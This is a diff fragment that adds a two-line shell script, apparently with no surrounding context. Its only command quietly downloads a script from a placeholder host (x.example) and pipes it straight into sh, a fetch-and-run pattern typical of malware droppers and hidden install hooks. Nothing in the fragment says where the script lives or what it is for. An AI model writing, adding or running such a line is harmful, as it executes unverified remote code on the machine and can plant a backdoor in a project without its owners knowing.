@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://x.example/i.sh | sh
